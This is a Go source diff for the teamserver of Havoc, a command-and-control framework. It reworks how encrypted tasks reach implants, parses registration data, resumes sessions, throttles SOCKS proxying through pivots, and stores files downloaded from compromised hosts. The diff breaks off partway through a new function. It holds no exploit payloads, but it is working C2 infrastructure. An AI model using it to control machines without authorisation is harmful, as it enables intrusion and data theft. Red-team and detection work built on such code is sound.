@@ -2,6 +2,7 @@ package agent
 
 import (
 	"bytes"
+	"crypto/cipher"
 	"encoding/binary"
 
 	//"encoding/hex"
@@ -9,6 +10,7 @@ import (
 	"errors"
 	"fmt"
 	"io"
+	"math/rand"
 	"net"
 	"os"
 	"path/filepath"
@@ -17,166 +19,190 @@ import (
 	"strings"
 	"time"
 
+	"Havoc/pkg/budget"
 	"Havoc/pkg/common"
 	"Havoc/pkg/common/crypt"
 	"Havoc/pkg/common/packer"
 	"Havoc/pkg/common/parser"
+	"Havoc/pkg/keyring"
 	"Havoc/pkg/logger"
 	"Havoc/pkg/logr"
+	"Havoc/pkg/seal"
 
 	"github.com/fatih/structs"
 )
 
-func BuildPayloadMessage(Jobs []Job, AesKey []byte, AesIv []byte) []byte {
-	var (
-		DataPayload        []byte
-		PayloadPackage     []byte
-		PayloadPackageSize = make([]byte, 4)
-		RequestID          = make([]byte, 4)
-		DataCommandID      = make([]byte, 4)
-	)
+// JobSize
+// returns the size of the job once packaged by BuildPayloadMessage
+// (command id, request id and size header included).
+func JobSize(job Job) int {
+	var Size = 12
 
-	for _, job := range Jobs {
+	for i := range job.Data {
 
-		for i := range job.Data {
+		switch job.Data[i].(type) {
+		case int, int32, uint32, bool:
+			Size += 4
 
-			switch job.Data[i].(type) {
-			case int:
-				var integer32 = make([]byte, 4)
+		case int64, uint64:
+			Size += 8
 
-				binary.LittleEndian.PutUint32(integer32, uint32(job.Data[i].(int)))
+		case int16, uint16:
+			Size += 2
 
-				DataPayload = append(DataPayload, integer32...)
+		case byte:
+			Size += 1
 
-				break
+		case string:
+			Size += 4 + len(job.Data[i].(string))
 
-			case int64:
-				var integer64 = make([]byte, 8)
+			// the null terminator BuildPayloadMessage adds
+			if strings.HasSuffix(job.Data[i].(string), "\x00") == false {
+				Size++
+			}
 
-				binary.LittleEndian.PutUint64(integer64, uint64(job.Data[i].(int64)))
+		case []byte:
+			Size += 4 + len(job.Data[i].([]byte))
 
-				DataPayload = append(DataPayload, integer64...)
+		default:
+			logger.Error(fmt.Sprintf("Could determine package size, unknown data type: %v", job.Data[i]))
+		}
+	}
 
-				break
+	return Size
+}
 
-			case uint64:
-				var integer64 = make([]byte, 8)
+func BuildPayloadMessage(Jobs []Job, AesKey []byte, AesIv []byte) []byte {
+	var Size = 0
 
-				binary.LittleEndian.PutUint64(integer64, uint64(job.Data[i].(uint64)))
+	for _, job := range Jobs {
+		Size += JobSize(job)
+	}
 
-				DataPayload = append(DataPayload, integer64...)
+	return AppendPayloadMessage(make([]byte, 0, Size), Jobs, AesKey, AesIv)
+}
 
-				break
+// PayloadMessage
+// packages the jobs encrypted with the session key of the agent.
+func (a *Agent) PayloadMessage(Jobs []Job) []byte {
+	var Size = 0
 
-			case int32:
-				var integer32 = make([]byte, 4)
+	for _, job := range Jobs {
+		Size += JobSize(job)
+	}
 
-				binary.LittleEndian.PutUint32(integer32, uint32(job.Data[i].(int32)))
+	return appendPayloadMessage(make([]byte, 0, Size), Jobs, a.Encryption.Stream)
+}
 
-				DataPayload = append(DataPayload, integer32...)
+// DecryptBuffer
+// decrypts the request of the agent with its session key.
+func (a *Agent) DecryptBuffer(Parser *parser.Parser) {
+	Stream, err := a.Encryption.Stream()
+	if err != nil {
+		/* fails the parser like a missing key */
+		Parser.DecryptBuffer(nil, nil)
+		return
+	}
 
-				break
+	Parser.DecryptStream(Stream)
+}
 
-			case uint32:
-				var integer32 = make([]byte, 4)
+// AppendPayloadMessage
+// packages the jobs into Buffer. The data of every job gets serialized
+// and encrypted in place. no intermediate buffers.
+func AppendPayloadMessage(Buffer []byte, Jobs []Job, AesKey []byte, AesIv []byte) []byte {
+	return appendPayloadMessage(Buffer, Jobs, func() (cipher.Stream, error) {
+		return crypt.AESStream(AesKey, AesIv)
+	})
+}
 
-				binary.LittleEndian.PutUint32(integer32, job.Data[i].(uint32))
+// appendPayloadMessage
+// the data of every job is encrypted with a new stream from NewStream.
+func appendPayloadMessage(Buffer []byte, Jobs []Job, NewStream func() (cipher.Stream, error)) []byte {
+	for _, job := range Jobs {
+		var Start int
 
-				DataPayload = append(DataPayload, integer32...)
+		Buffer = binary.LittleEndian.AppendUint32(Buffer, job.Command)
+		Buffer = binary.LittleEndian.AppendUint32(Buffer, job.RequestID)
 
-				break
+		/* size of the data. gets patched once the data is serialized */
+		Buffer = binary.LittleEndian.AppendUint32(Buffer, 0)
+		Start = len(Buffer)
 
-			case int16:
-				var integer16 = make([]byte, 2)
+		for i := range job.Data {
 
-				binary.LittleEndian.PutUint16(integer16, uint16(job.Data[i].(int16)))
+			switch job.Data[i].(type) {
+			case int:
+				Buffer = binary.LittleEndian.AppendUint32(Buffer, uint32(job.Data[i].(int)))
 
-				DataPayload = append(DataPayload, integer16...)
+			case int64:
+				Buffer = binary.LittleEndian.AppendUint64(Buffer, uint64(job.Data[i].(int64)))
 
-				break
+			case uint64:
+				Buffer = binary.LittleEndian.AppendUint64(Buffer, job.Data[i].(uint64))
 
-			case uint16:
-				var integer16 = make([]byte, 2)
+			case int32:
+				Buffer = binary.LittleEndian.AppendUint32(Buffer, uint32(job.Data[i].(int32)))
 
-				binary.LittleEndian.PutUint16(integer16, job.Data[i].(uint16))
+			case uint32:
+				Buffer = binary.LittleEndian.AppendUint32(Buffer, job.Data[i].(uint32))
 
-				DataPayload = append(DataPayload, integer16...)
+			case int16:
+				Buffer = binary.LittleEndian.AppendUint16(Buffer, uint16(job.Data[i].(int16)))
 
-				break
+			case uint16:
+				Buffer = binary.LittleEndian.AppendUint16(Buffer, job.Data[i].(uint16))
 
 			case string:
-				var size = make([]byte, 4)
-
 				str := job.Data[i].(string)
 
 				// in C, strings terminate with a null-byte
 				if strings.HasSuffix(str, "\x00") == false {
-					str += "\x00"
+					Buffer = binary.LittleEndian.AppendUint32(Buffer, uint32(len(str)+1))
+					Buffer = append(Buffer, str...)
+					Buffer = append(Buffer, 0)
+				} else {
+					Buffer = binary.LittleEndian.AppendUint32(Buffer, uint32(len(str)))
+					Buffer = append(Buffer, str...)
 				}
 
-				binary.LittleEndian.PutUint32(size, uint32(len(str)))
-
-				DataPayload = append(DataPayload, size...)
-				DataPayload = append(DataPayload, []byte(str)...)
-
-				break
-
 			case []byte:
-				var size = make([]byte, 4)
-
-				binary.LittleEndian.PutUint32(size, uint32(len(job.Data[i].([]byte))))
-
-				DataPayload = append(DataPayload, size...)
-				DataPayload = append(DataPayload, job.Data[i].([]byte)...)
-
-				break
+				Buffer = binary.LittleEndian.AppendUint32(Buffer, uint32(len(job.Data[i].([]byte))))
+				Buffer = append(Buffer, job.Data[i].([]byte)...)
 
 			case byte:
-				var singlebyte = make([]byte, 1)
-
-				singlebyte[0] = job.Data[i].(byte)
-
-				DataPayload = append(DataPayload, singlebyte...)
-
-				break
+				Buffer = append(Buffer, job.Data[i].(byte))
 
 			case bool:
-				var boolean = make([]byte, 4)
-
 				if job.Data[i].(bool) {
-					binary.LittleEndian.PutUint32(boolean, 1)
+					Buffer = binary.LittleEndian.AppendUint32(Buffer, 1)
 				} else {
-					binary.LittleEndian.PutUint32(boolean, 0)
+					Buffer = binary.LittleEndian.AppendUint32(Buffer, 0)
 				}
 
-				DataPayload = append(DataPayload, boolean...)
-
-				break
-
 			default:
 				logger.Error(fmt.Sprintf("Could not package, unknown data type: %v", job.Data[i]))
 			}
 		}
 
-		binary.LittleEndian.PutUint32(DataCommandID, job.Command)
-		PayloadPackage = append(PayloadPackage, DataCommandID...)
-
-		binary.LittleEndian.PutUint32(RequestID, job.RequestID)
-		PayloadPackage = append(PayloadPackage, RequestID...)
+		binary.LittleEndian.PutUint32(Buffer[Start-4:Start], uint32(len(Buffer)-Start))
 
-		binary.LittleEndian.PutUint32(PayloadPackageSize, uint32(len(DataPayload)))
-		PayloadPackage = append(PayloadPackage, PayloadPackageSize...)
+		if len(Buffer) > Start {
+			if Stream, err := NewStream(); err == nil {
+				Stream.XORKeyStream(Buffer[Start:], Buffer[Start:])
+			} else {
+				logger.Error("Encryption Error: " + err.Error())
 
-		if len(DataPayload) > 0 {
-			DataPayload = crypt.XCryptBytesAES256(DataPayload, AesKey, AesIv)
-			PayloadPackage = append(PayloadPackage, DataPayload...)
-			DataPayload = nil
+				/* never send the data unencrypted. the job goes out without data */
+				Buffer = Buffer[:Start]
+				binary.LittleEndian.PutUint32(Buffer[Start-4:Start], 0)
+			}
 		}
 	}
 
-	//logger.Debug("PayloadPackage:\n", hex.Dump(PayloadPackage))
+	//logger.Debug("PayloadPackage:\n", hex.Dump(Buffer))
 
-	return PayloadPackage
+	return Buffer
 }
 
 func ParseHeader(data []byte) (Header, error) {
@@ -213,6 +239,17 @@ func ParseHeader(data []byte) (Header, error) {
 	return Header, nil
 }
 
+// ParseTaskResponse
+// parses the size prefixed result of a task following the command and
+// request id. Returns false if the result is truncated.
+func ParseTaskResponse(Data *parser.Parser) (*parser.Parser, bool) {
+	if !Data.CanIRead([]parser.ReadType{parser.ReadBytes}) {
+		return nil, false
+	}
+
+	return parser.NewParser(Data.ParseBytes()), true
+}
+
 func RegisterInfoToInstance(Header Header, RegisterInfo map[string]any) *Agent {
 	var (
 		agent = &Agent{
@@ -314,6 +351,36 @@ func RegisterInfoToInstance(Header Header, RegisterInfo map[string]any) *Agent {
 		}
 	}
 
+	// time zone of the host: "UTC Offset" in minutes east of UTC (or +hh:mm), "Time Zone" its name
+	if val, ok := RegisterInfo["UTC Offset"]; ok {
+		var (
+			Offset int
+			Name   string
+		)
+
+		switch v := val.(type) {
+		case float64:
+			Offset = int(v)
+		case string:
+			Offset, err = ParseTimeZoneOffset(v)
+			if err != nil {
+				logger.DebugError("Couldn't parse UTC Offset: " + err.Error())
+				val = nil
+			}
+		default:
+			logger.DebugError("Unexpected type for UTC Offset: " + reflect.TypeOf(v).String())
+			val = nil
+		}
+
+		if zone, ok := RegisterInfo["Time Zone"].(string); ok {
+			Name = zone
+		}
+
+		if val != nil && !TimeZoneSet(agent.Info, Name, Offset) {
+			logger.DebugError(fmt.Sprintf("UTC Offset out of range: %v", Offset))
+		}
+	}
+
 	agent.Info.FirstCallIn = time.Now().Format("02/01/2006 15:04:05")
 
 	agent.Info.LastCallIn = time.Now().Format("02-01-2006 15:04:05")
@@ -360,6 +427,7 @@ func ParseDemonRegisterRequest(AgentID int, Parser *parser.Parser, ExternalIP st
 		[ AES IV       ] 16 bytes
 		AES Encrypted {
 			[ Agent ID     ] 4 bytes <-- this is needed to check if we successfully decrypted the data
+			[ Protocol     ] 4 bytes (not sent by version 1 agents)
 			[ Host Name    ] size + bytes
 			[ User Name    ] size + bytes
 			[ Domain       ] size + bytes
@@ -378,15 +446,12 @@ func ParseDemonRegisterRequest(AgentID int, Parser *parser.Parser, ExternalIP st
 
 	if Parser.Length() >= 32+16 {
 
-		var Session = &Agent{
-			Encryption: struct {
-				AESKey []byte
-				AESIv  []byte
-			}{
-				AESKey: Parser.ParseAtLeastBytes(32),
-				AESIv:  Parser.ParseAtLeastBytes(16),
-			},
+		var (
+			AESKey = Parser.ParseAtLeastBytes(32)
+			AESIv  = Parser.ParseAtLeastBytes(16)
+		)
 
+		var Session = &Agent{
 			Active:     false,
 			SessionDir: "",
 
@@ -394,8 +459,18 @@ func ParseDemonRegisterRequest(AgentID int, Parser *parser.Parser, ExternalIP st
 		}
 
 		// check if there is aes key/iv.
-		if bytes.Compare(Session.Encryption.AESKey, AesKeyEmpty) != 0 {
-			Parser.DecryptBuffer(Session.Encryption.AESKey, Session.Encryption.AESIv)
+		if bytes.Compare(AESKey, AesKeyEmpty) != 0 {
+			Parser.DecryptBuffer(AESKey, AESIv)
+		}
+
+		/* wrapped from here on. the clear copy in the request is wiped */
+		Session.Encryption.Set(AESKey, AESIv)
+		keyring.Wipe(AESKey, AESIv)
+
+		Protocol, err := ParseProtocolVersion(Parser)
+		if err != nil {
+			logger.Error(fmt.Sprintf("Agent: %x, Command: REGISTER, %v", AgentID, err))
+			return nil
 		}
 
 		if Parser.CanIRead([]parser.ReadType{parser.ReadInt32, parser.ReadBytes, parser.ReadBytes, parser.ReadBytes, parser.ReadBytes, parser.ReadBytes, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt32, parser.ReadInt64, parser.ReadInt32}) {
@@ -411,10 +486,10 @@ func ParseDemonRegisterRequest(AgentID int, Parser *parser.Parser, ExternalIP st
 				logger.Debug(fmt.Sprintf("AgentID (%x) == DemonID (%x)\n", AgentID, DemonID))
 			}
 
-			Hostname = Parser.ParseString()
-			Username = Parser.ParseString()
-			DomainName = Parser.ParseString()
-			InternalIP = Parser.ParseString()
+			Hostname = ParseName(Protocol, Parser)
+			Username = ParseName(Protocol, Parser)
+			DomainName = ParseName(Protocol, Parser)
+			InternalIP = Parser.ParseStringMax()
 
 			if ExternalIP != "" {
 				Session.Info.ExternalIP = ExternalIP
@@ -429,7 +504,7 @@ func ParseDemonRegisterRequest(AgentID int, Parser *parser.Parser, ExternalIP st
 					"ExternIP: %v\n",
 				Hostname, Username, DomainName, InternalIP, ExternalIP))
 
-			ProcessName = Parser.ParseUTF16String()
+			ProcessName = Parser.ParseUTF16StringMax()
 			ProcessPID = Parser.ParseInt32()
 			ProcessTID = Parser.ParseInt32()
 			ProcessPPID = Parser.ParseInt32()
@@ -455,12 +530,20 @@ func ParseDemonRegisterRequest(AgentID int, Parser *parser.Parser, ExternalIP st
 			KillDate = Parser.ParseInt64()
 			WorkingHours = int32(Parser.ParseInt32())
 
+			if err = Parser.Err(); err != nil {
+				logger.Debug(fmt.Sprintf("Agent: %x, Command: REGISTER, Invalid packet: %v", AgentID, err))
+				return nil
+			}
+
 			logger.Debug(fmt.Sprintf(
 				"\n"+
 					"SleepDelay  : %v\n"+
 					"SleepJitter : %v\n",
 				SleepDelay, SleepJitter))
 
+			Session.Info.Protocol = Protocol
+			ParseMetaData(Protocol, Parser, Session.Info)
+
 			Session.Active = true
 
 			Session.NameID = fmt.Sprintf("%08x", DemonID)
@@ -649,6 +732,64 @@ func (a *Agent) RequestCompleted(RequestID uint32) {
 	}
 }
 
+// RequestTask
+// returns the task of the request.
+func (a *Agent) RequestTask(RequestID uint32) (Job, bool) {
+	for i := range a.Tasks {
+		if a.Tasks[i].RequestID == RequestID {
+			return a.Tasks[i], true
+		}
+	}
+
+	return Job{}, false
+}
+
+// Answering
+// returns the task id of the result the agent is dispatching, so the
+// output it prints can be attributed to the task. empty if the result
+// doesn't belong to the task of an operator.
+func (a *Agent) Answering() string {
+	var Task, _ = a.answering.Load().(Job)
+
+	return Task.TaskID
+}
+
+// AnsweringCommand
+// returns the name of the command of the task the agent is answering.
+// empty if the result doesn't belong to the task of an operator.
+func (a *Agent) AnsweringCommand() string {
+	var Task, _ = a.answering.Load().(Job)
+
+	if len(Task.TaskID) == 0 {
+		return ""
+	}
+
+	if Name, ok := CommandNames[Task.Command]; ok {
+		return Name
+	}
+
+	return fmt.Sprintf("0x%x", Task.Command)
+}
+
+// RequestAnswered
+// marks the task of the request as answered. returns the task the first
+// time the agent sends a result of it.
+func (a *Agent) RequestAnswered(RequestID uint32) (Job, bool) {
+	for i := range a.Tasks {
+		if a.Tasks[i].RequestID == RequestID {
+			if a.Tasks[i].Answered {
+				break
+			}
+
+			a.Tasks[i].Answered = true
+
+			return a.Tasks[i], true
+		}
+	}
+
+	return Job{}, false
+}
+
 func (a *Agent) AddJobToQueue(job Job) []Job {
 	// store the RequestID
 	a.AddRequest(job)
@@ -663,82 +804,172 @@ func (a *Agent) AddJobToQueue(job Job) []Job {
 	return a.JobQueue
 }
 
+// ResponseLength
+// returns the max size of a response to the agent. Agents behind a
+// constrained proxy or transport advertise a smaller size than
+// DEMON_MAX_RESPONSE_LENGTH at registration. Jobs for a pivot travel
+// inside the responses of its parents so the smallest size on the way
+// counts, minus what every hop wraps around the job.
+func (a *Agent) ResponseLength() int {
+	var Length = DEMON_MAX_RESPONSE_LENGTH
+
+	if a.Info != nil && a.Info.MaxResponse > 0 && a.Info.MaxResponse < Length {
+		Length = a.Info.MaxResponse
+	}
+
+	if a.Pivots.Parent != nil && a.Pivots.Parent != a {
+		if Parent := a.Pivots.Parent.ResponseLength() - DEMON_PIVOT_JOB_OVERHEAD; Parent < Length {
+			Length = Parent
+		}
+	}
+
+	if Length < DEMON_MIN_RESPONSE_LENGTH {
+		Length = DEMON_MIN_RESPONSE_LENGTH
+	}
+
+	return Length
+}
+
 func (a *Agent) GetQueuedJobs() []Job {
 	var Jobs []Job
 	var JobsSize = 0
 	var NumJobs = 0
 
-	// make sure we return a number of jobs that doesn't exceed DEMON_MAX_RESPONSE_LENGTH
+	// make sure we return a number of jobs that doesn't exceed the max response size of the agent
 	for _, job := range a.JobQueue {
+		JobsSize += JobSize(job)
 
-		for i := range job.Data {
+		if JobsSize >= a.ResponseLength() {
+			break
+		}
 
-			switch job.Data[i].(type) {
-			case int:
-				JobsSize += 4
-				break
+		NumJobs++
+	}
 
-			case int64:
-				JobsSize += 8
-				break
+	// if there is a very large job, send it anyways
+	if len(a.JobQueue) > 0 && NumJobs == 0 {
+		NumJobs = 1
+	}
 
-			case uint64:
-				JobsSize += 8
-				break
+	// return NumJobs and leave the rest on the JobQueue
+	Jobs, a.JobQueue = a.JobQueue[:NumJobs], a.JobQueue[NumJobs:]
 
-			case int32:
-				JobsSize += 4
-				break
+	a.SocksClientFetched(Jobs)
 
-			case uint32:
-				JobsSize += 4
-				break
+	return CoalesceJobs(Jobs)
+}
 
-			case int16:
-				JobsSize += 2
-				break
+// CoalesceJobs
+// merges consecutive writes to the same socket into a single write.
+// A busy socks proxy queues a write for every frame it reads. merged
+// the agent has less jobs to unpack and decrypt. Compressed frames stay
+// apart, the agent only reads the size of the first one.
+func CoalesceJobs(Jobs []Job) []Job {
+	var (
+		Coalesced = make([]Job, 0, len(Jobs))
+		Owned     = -1 // index of the merged write whose data got copied already
+	)
 
-			case uint16:
-				JobsSize += 2
-				break
+	for _, job := range Jobs {
+		var Last = len(Coalesced) - 1
 
-			case string:
-				JobsSize += 4 + len(job.Data[i].(string))
-				break
+		if Last >= 0 && socketWriteMergeable(Coalesced[Last], job) {
+			var Data = Coalesced[Last].Data[2].([]byte)
 
-			case []byte:
-				JobsSize += 4 + len(job.Data[i].([]byte))
-				break
+			/* don't append to the data of the queued job */
+			if Owned != Last {
+				Data = append(make([]byte, 0, len(Data)+len(job.Data[2].([]byte))), Data...)
+				Owned = Last
+			}
 
-			case byte:
-				JobsSize += 1
-				break
+			Coalesced[Last].Data = []any{
+				SOCKET_COMMAND_WRITE,
+				Coalesced[Last].Data[1],
+				append(Data, job.Data[2].([]byte)...),
+			}
 
-			case bool:
-				JobsSize += 4
-				break
+			continue
+		}
 
-			default:
-				logger.Error(fmt.Sprintf("Could determine package size, unknown data type: %v", job.Data[i]))
-			}
+		Coalesced = append(Coalesced, job)
+	}
+
+	return Coalesced
+}
+
+func socketWriteMergeable(First, Second Job) bool {
+	for _, job := range []Job{First, Second} {
+		if job.Command != COMMAND_SOCKET || len(job.Data) != 3 || job.Data[0] != SOCKET_COMMAND_WRITE || job.Compressed {
+			return false
 		}
 
-		if JobsSize >= DEMON_MAX_RESPONSE_LENGTH {
-			break
+		if _, ok := job.Data[2].([]byte); !ok {
+			return false
 		}
+	}
 
-		NumJobs++
+	return First.RequestID == Second.RequestID && First.Data[1] == Second.Data[1]
+}
+
+// SocksClientFetched
+// releases the queued bytes of the socks clients once
+// the agent fetched the socket writes (see SocksClientWait).
+func (a *Agent) SocksClientFetched(Jobs []Job) {
+	for _, job := range Jobs {
+		if job.Command != COMMAND_SOCKET || len(job.Data) < 3 || job.Data[0] != SOCKET_COMMAND_WRITE {
+			continue
+		}
+
+		SocketID, ok := job.Data[1].(int32)
+		if !ok {
+			continue
+		}
+
+		Data, ok := job.Data[2].([]byte)
+		if !ok {
+			continue
+		}
+
+		/* agents that acknowledge the writes release the bytes themselves */
+		if client := a.SocksClientGet(int(SocketID)); client != nil && !client.Acknowledged {
+			client.Pending.Add(-int64(len(Data)))
+		}
 	}
+}
 
-	// if there is a very large job, send it anyways
-	if len(a.JobQueue) > 0 && NumJobs == 0 {
-		NumJobs = 1
+// SocksClientAcknowledged
+// releases the queued bytes of the socks client the agent wrote to
+// the target (see SocksClientWait).
+func (a *Agent) SocksClientAcknowledged(SocketID int, Length int) {
+	if client := a.SocksClientGet(SocketID); client != nil {
+		if client.Pending.Add(-int64(Length)) < 0 {
+			client.Pending.Store(0)
+		}
 	}
+}
 
-	// return NumJobs and leave the rest on the JobQueue
-	Jobs, a.JobQueue = a.JobQueue[:NumJobs], a.JobQueue[NumJobs:]
+// SocksClientWait
+// blocks reading from the socks client as long as more than Window
+// bytes are waiting to be written by the agent. Without this a slow
+// transport (long sleep, pivots over constrained links) makes the
+// queue grow without limits while the client keeps sending.
+func (a *Agent) SocksClientWait(client *SocksClient, Window int) bool {
+	/* jobs of pivots are fetched by the parent. without the agent
+	 * acknowledging its writes there is no way to tell when they
+	 * have been sent so don't block them. */
+	if Window <= 0 || (a.Pivots.Parent != nil && !client.Acknowledged) {
+		return true
+	}
+
+	for client.Pending.Load() >= int64(Window) {
+		if a.SocksClientGet(int(client.SocketID)) == nil {
+			return false
+		}
 
-	return Jobs
+		time.Sleep(100 * time.Millisecond)
+	}
+
+	return true
 }
 
 func (a *Agent) UpdateLastCallback(Teamserver TeamServer) {
@@ -748,9 +979,120 @@ func (a *Agent) UpdateLastCallback(Teamserver TeamServer) {
 	Teamserver.AgentLastTimeCalled(a.NameID, a.Info.LastCallIn, a.Info.SleepDelay, a.Info.SleepJitter, a.Info.KillDate, a.Info.WorkingHours)
 }
 
+// UpdateCallbackHost
+// tracks which of the listener hosts the agent used to reach us
+// and tells the operators when the agent rotated to a different one.
+func (a *Agent) UpdateCallbackHost(Teamserver TeamServer, CallbackHost string) {
+	if len(CallbackHost) == 0 || a.Info.CallbackHost == CallbackHost {
+		return
+	}
+
+	if len(a.Info.CallbackHost) > 0 {
+		Teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, map[string]string{
+			"Type":    "Info",
+			"Message": fmt.Sprintf("Agent switched callback host: %v -> %v", a.Info.CallbackHost, CallbackHost),
+		})
+	}
+
+	a.Info.CallbackHost = CallbackHost
+}
+
+// UpdateTransport
+// tracks which listener the agent called back over and tells the
+// operators when the agent failed over to a different one.
+func (a *Agent) UpdateTransport(Teamserver TeamServer, Listener string) {
+	if len(Listener) == 0 || a.Info.Transport == Listener {
+		return
+	}
+
+	var Previous = a.Info.Transport
+
+	if len(Previous) > 0 {
+		Teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, map[string]string{
+			"Type":    "Info",
+			"Message": fmt.Sprintf("Agent failed over to another listener: %v -> %v", Previous, Listener),
+		})
+	}
+
+	a.Info.Transport = Listener
+
+	Teamserver.AgentTransport(a, Previous)
+}
+
+// UpdateExternalIP
+// tracks the ip the agent connects from and tells the operators when the
+// agent roamed to a different one.
+func (a *Agent) UpdateExternalIP(Teamserver TeamServer, ExternalIP string) {
+	if len(ExternalIP) == 0 || a.Info.ExternalIP == ExternalIP {
+		return
+	}
+
+	if len(a.Info.ExternalIP) > 0 {
+		Teamserver.AgentConsole(a.NameID, HAVOC_CONSOLE_MESSAGE, map[string]string{
+			"Type":    "Info",
+			"Message": fmt.Sprintf("Agent switched external ip: %v -> %v", a.Info.ExternalIP, ExternalIP),
+		})
+	}
+
+	a.Info.ExternalIP = ExternalIP
+}
+
+// ErrSessionKey
+// an agent registered again with another session key than its session has.
+var ErrSessionKey = errors.New("session key mismatch")
+
+// Resume
+// re-attaches the agent that registered again (eg: after it reconnected
+// from another ip or over another transport) to its session. The agent
+// proves it owns the session with the session key of its register
+// request. The register request refreshes what changed since.
+func (a *Agent) Resume(Register *Agent) error {
+	if Register == nil || Register.Info == nil {
+		return errors.New("invalid register request")
+	}
+
+	var AESKey, AESIv = Register.Encryption.Keys()
+	defer keyring.Wipe(AESKey, AESIv)
+
+	if !a.Encryption.Equal(AESKey, AESIv) {
+		return ErrSessionKey
+	}
+
+	a.Info.InternalIP = Register.Info.InternalIP
+	a.Info.SleepDelay = Register.Info.SleepDelay
+	a.Info.SleepJitter = Register.Info.SleepJitter
+	a.Info.KillDate = Register.Info.KillDate
+	a.Info.WorkingHours = Register.Info.WorkingHours
+	a.Info.Protocol = Register.Info.Protocol
+	a.Info.LastCallIn = Register.Info.LastCallIn
+
+	if Register.Info.Capabilities != nil {
+		a.Info.Capabilities = Register.Info.Capabilities
+	}
+
+	if Register.Info.MaxResponse > 0 {
+		a.Info.MaxResponse = Register.Info.MaxResponse
+	}
+
+	if len(Register.Info.TimeZone) > 0 {
+		a.Info.TimeZone = Register.Info.TimeZone
+		a.Info.UTCOffset = Register.Info.UTCOffset
+	}
+
+	if Register.Info.Protocol >= DEMON_PROTOCOL_V5 {
+		a.Info.CodePage = Register.Info.CodePage
+		a.Info.OEMCodePage = Register.Info.OEMCodePage
+	}
+
+	a.Active = true
+	a.Reason = ""
+
+	return nil
+}
+
 func (a *Agent) PivotAddJob(job Job) {
 	var (
-		Payload  = BuildPayloadMessage([]Job{job}, a.Encryption.AESKey, a.Encryption.AESIv)
+		Payload  = a.PayloadMessage([]Job{job})
 		Packer   = packer.NewPacker(nil, nil)
 		pivots   *Pivots
 		PivotJob Job
@@ -782,6 +1124,9 @@ func (a *Agent) PivotAddJob(job Job) {
 		},
 	}
 
+	PivotJob.Carried.AgentID = a.NameID
+	PivotJob.Carried.RequestID = job.RequestID
+
 	pivots = &a.Pivots
 
 	// pack it up for all the parent pivots.
@@ -791,7 +1136,7 @@ func (a *Agent) PivotAddJob(job Job) {
 		}
 
 		// create new layer package.
-		Payload = BuildPayloadMessage([]Job{PivotJob}, pivots.Parent.Encryption.AESKey, pivots.Parent.Encryption.AESIv)
+		Payload = pivots.Parent.PayloadMessage([]Job{PivotJob})
 		Packer = packer.NewPacker(nil, nil)
 
 		AgentID, err = strconv.ParseInt(pivots.Parent.NameID, 16, 32)
@@ -810,6 +1155,7 @@ func (a *Agent) PivotAddJob(job Job) {
 				uint32(AgentID),
 				Packer.Buffer(),
 			},
+			Carried: PivotJob.Carried,
 		}
 
 		pivots = &pivots.Parent.Pivots
@@ -828,43 +1174,63 @@ func (a *Agent) DownloadAdd(FileID int, FilePath string, FileSize int64) error {
 			Progress:  FileSize,
 			State:     DOWNLOAD_STATE_RUNNING,
 		}
+	)
+
+	download.LocalFile, err = a.DownloadPath(FilePath)
+	if err != nil {
+		return err
+	}
 
+	download.File, err = seal.Create(download.LocalFile)
+	if err != nil {
+		logger.Error("Failed to create file: " + err.Error())
+		return errors.New("Failed to create file: " + err.Error())
+	}
+
+	a.Downloads = append(a.Downloads, download)
+
+	return nil
+}
+
+// DownloadPath
+// returns the file of the loot store the download of the file gets
+// written to and creates the folders of it.
+func (a *Agent) DownloadPath(FilePath string) (string, error) {
+	var (
 		DemonPath        = logr.LogrInstance.AgentPath + "/" + a.NameID
 		DemonDownloadDir = DemonPath + "/Download"
 		DownloadFilePath = strings.Join(strings.Split(FilePath, "\\"), "/")
 		FileSplit        = strings.Split(DownloadFilePath, "/")
-		DownloadFile     = FileSplit[len(FileSplit)-1]
-		DemonDownload    = DemonDownloadDir + "/" + strings.Join(FileSplit[:len(FileSplit)-1], "/")
+	)
+
+	/* windows names take up to 255 utf-16 characters, which can be too long in utf-8 (CJK) */
+	for i := range FileSplit {
+		FileSplit[i] = common.FileNameLimit(FileSplit[i])
+	}
+
+	var (
+		DownloadFile  = FileSplit[len(FileSplit)-1]
+		DemonDownload = DemonDownloadDir + "/" + strings.Join(FileSplit[:len(FileSplit)-1], "/")
 	)
 
 	/* check if we don't have a path traversal */
 	path := filepath.Clean(DemonDownload)
 	if !strings.HasPrefix(path, DemonDownloadDir) {
 		logger.Error("File didn't started with agent download path. abort")
-		return errors.New("File didn't started with agent download path. abort")
+		return "", errors.New("File didn't started with agent download path. abort")
 	}
 
 	if _, err := os.Stat(DemonDownload); os.IsNotExist(err) {
 		if err = os.MkdirAll(DemonDownload, os.ModePerm); err != nil {
 			logger.Error("Failed to create Logr demon download path" + a.NameID + ": " + err.Error())
-			return errors.New("Failed to create Logr demon download path" + a.NameID + ": " + err.Error())
+			return "", errors.New("Failed to create Logr demon download path" + a.NameID + ": " + err.Error())
 		}
 	}
 
 	/* remove null terminator. goland doesn't like it. */
 	DownloadFile = common.StripNull(DownloadFile)
 
-	download.File, err = os.Create(DemonDownload + "/" + DownloadFile)
-	if err != nil {
-		logger.Error("Failed to create file: " + err.Error())
-		return errors.New("Failed to create file: " + err.Error())
-	}
-
-	download.LocalFile = DemonDownload + "/" + DownloadFile
-
-	a.Downloads = append(a.Downloads, download)
-
-	return nil
+	return DemonDownload + "/" + DownloadFile, nil
 }
 
 func (a *Agent) DownloadWrite(FileID int, data []byte) error {
@@ -872,7 +1238,7 @@ func (a *Agent) DownloadWrite(FileID int, data []byte) error {
 		if a.Downloads[i].FileID == FileID {
 			_, err := a.Downloads[i].File.Write(data)
 			if err != nil {
-				a.Downloads[i].File, err = os.Create(a.Downloads[i].LocalFile)
+				a.Downloads[i].File, err = seal.Create(a.Downloads[i].LocalFile)
 				if err != nil {
 					return errors.New("Failed to create file: " + err.Error())
 				}
@@ -904,6 +1270,124 @@ func (a *Agent) DownloadClose(FileID int) {
 	}
 }
 
+// DownloadRange
+// queues a download of a part of the file. Used to split big downloads
+// across multiple agents (segmented downloads).
